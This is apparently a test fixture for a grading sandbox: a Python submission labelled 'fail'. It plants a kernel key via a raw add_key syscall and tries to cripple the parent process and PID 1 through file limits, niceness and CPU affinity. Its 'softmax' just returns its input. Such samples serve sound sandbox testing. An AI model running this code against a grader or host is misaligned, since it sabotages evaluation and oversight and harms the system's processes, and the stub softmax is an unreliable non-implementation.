"""fail: changes limits and priorities of other processes, and leaves keys in the kernel."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(248, b"user", b"grader-attack", b"x", 1, -5))
for pid in (os.getppid(), 1):
    for change in (
        lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0)),
        lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid=pid: os.sched_setaffinity(pid, {0}),
    ):
        try:
            change()
            print("changed")
        except OSError:
            continue


def softmax(scores, axis=-1):
    return scores
